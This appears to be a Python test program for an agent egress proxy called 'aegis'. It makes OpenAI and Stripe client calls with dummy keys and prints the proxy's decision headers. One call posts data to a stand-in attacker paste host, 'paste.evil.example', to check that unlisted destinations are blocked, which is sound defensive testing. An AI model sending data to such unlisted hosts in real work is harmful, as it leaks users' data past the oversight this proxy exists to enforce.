"""A program that knows nothing of the mesh: the clients of OpenAI and Stripe as they are published, https, and httpx.

`aegis agent run` gives it a proxy and a file of authorities in its environment; Stripe's client alone reads neither
SSL_CERT_FILE nor its like, and is told the file. Prints one line of JSON for each call.
"""

from __future__ import annotations

import json
import os
import sys
import time
from collections.abc import Callable, Mapping

import httpx
import openai
import stripe

QUESTION = "Draft a reminder for invoice 17."

Headers = Mapping[str, str]
Call = Callable[[], tuple[int, Headers, str]]


def pay(amount: int) -> Call:
    """A payment by Stripe's client, which sends a form."""

    def call() -> tuple[int, Headers, str]:
        try:
            intent = stripe.PaymentIntent.create(amount=amount, currency="eur")
        except stripe.StripeError as refused:
            return refused.http_status or 0, refused.headers or {}, str(refused)
        answer = intent.last_response
        return (answer.code, answer.headers, str(intent.amount)) if answer is not None else (0, {}, "")

    return call


def ask(client: openai.OpenAI, model: str) -> Call:
    """A question by OpenAI's client, its answer streamed."""

    def call() -> tuple[int, Headers, str]:
        try:
            raw = client.chat.completions.with_raw_response.create(
                model=model, messages=[{"role": "user", "content": QUESTION}], stream=True
            )
        except openai.APIStatusError as refused:
            return refused.status_code, refused.response.headers, refused.message
        parts = [chunk.choices[0].delta.content or "" for chunk in raw.parse()]
        return raw.status_code, raw.headers, "|".join(part for part in parts if part)

    return call


def post(client: httpx.Client, url: str) -> Call:
    """Something sent to a host that nobody listed."""

    def call() -> tuple[int, Headers, str]:
        answer = client.post(url, json={"data": "x"})
        return answer.status_code, answer.headers, ""

    return call


def main() -> None:
    """Make the calls and print what the clients saw of each."""
    stripe.ca_bundle_path = os.environ["SSL_CERT_FILE"]
    stripe.api_key = "sk_test_none"
    stripe.enable_telemetry = False
    stripe.max_network_retries = 0
    with openai.OpenAI(api_key="sk-none", max_retries=0) as model, httpx.Client(timeout=30) as client:
        calls = (
            ask(model, "small"),
            ask(model, "large"),
            pay(4_200),
            pay(50_000),
            post(client, "https://paste.evil.example/"),
        )
        for call in calls:
            began = time.perf_counter()
            status, headers, text = call()
            named = {name.lower(): value for name, value in headers.items()}
            facts = {name: named.get(name, "") for name in ("x-aegis-decision", "x-aegis-decision-id")}
            line = {**facts, "status": status, "text": text, "ms": (time.perf_counter() - began) * 1000}
            sys.stdout.write(json.dumps(line) + "\n")


if __name__ == "__main__":
    main()
